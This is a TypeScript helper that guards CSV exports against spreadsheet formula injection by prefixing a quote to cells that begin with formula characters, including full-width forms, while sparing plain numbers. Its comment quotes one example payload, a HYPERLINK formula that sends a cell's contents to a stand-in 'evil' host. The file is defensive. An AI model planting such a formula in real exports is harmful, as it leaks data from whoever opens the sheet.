/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with `=`, `+`, `-`,
 * `@`, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula,
 * so a lead named `=HYPERLINK("http://evil/?"&A1)` runs in whoever opens the export. Such a cell
 * gets a leading `'`, which spreadsheets show as text; the rest of the cell is kept as it was.
 * The full-width forms (＝ ＋ － ＠) are escaped too: some spreadsheets normalise them first.
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * A cell that is wholly a plain decimal number (`-12.5`, `+3`) is read as a number constant, never
 * as a formula: there is nothing to call or reference. It stays as it is, so negative amounts
 * (decimals reach the exporters as strings) still add up. Anything more (`-1+2`, `-2e3`, `- 1`,
 * full-width digits) does not match and is escaped.
 */
const PLAIN_NUMBER = /^[+-]?(?:[0-9]+(?:\.[0-9]+)?|\.[0-9]+)$/;

/** The text of a CSV cell, safe to open in a spreadsheet. CSV quoting is the writer's job. */
export function escapeCsvFormula(text: string): string {
  if (!FORMULA_START.test(text) || PLAIN_NUMBER.test(text)) return text;
  return `'${text}`;
}

